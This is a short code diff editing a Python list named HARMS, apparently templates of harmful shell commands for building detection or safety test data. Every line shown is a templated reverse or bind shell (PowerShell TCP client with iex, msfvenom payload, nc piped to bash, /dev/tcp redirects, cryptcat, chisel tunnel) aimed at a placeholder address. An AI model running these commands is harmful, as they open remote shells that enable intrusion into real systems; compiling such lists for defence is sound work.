@@ -75,11 +75,10 @@ HARMS = lines_of(
     @O powershell -c "$c=New-Object Net.Sockets.TCPClient('{address}',{shell_port});$s=$c.GetStream();while(1){iex (New-Object IO.StreamReader($s)).ReadLine()}"
     @O msfvenom -p linux/x64/shell_reverse_tcp LHOST={address} LPORT={shell_port} -f elf > /tmp/{file} && /tmp/{file}
     @O while :; do nc -l -p {shell_port} | sh; done
-    @O nc {address} {shell_port} | bash
     @O echo 'sh -i >& /dev/tcp/{address}/{shell_port} 0>&1' | bash
     @O setsid sh -c 'exec sh <> /dev/tcp/{address}/{shell_port} >&0 2>&1'
     @O script -qc /bin/bash /dev/null < /tmp/{file} | nc {address} {shell_port} > /tmp/{file}
-    @O cryptcat -k {thing} -e /bin/sh {address} {shell_port}
+    @O cryptcat -e /bin/sh {address} {shell_port}
     @O chisel client {address}:{port} R:{shell_port}:127.0.0.1:22"""
 )
 HARMFUL_PROGRAMS = lines_of(
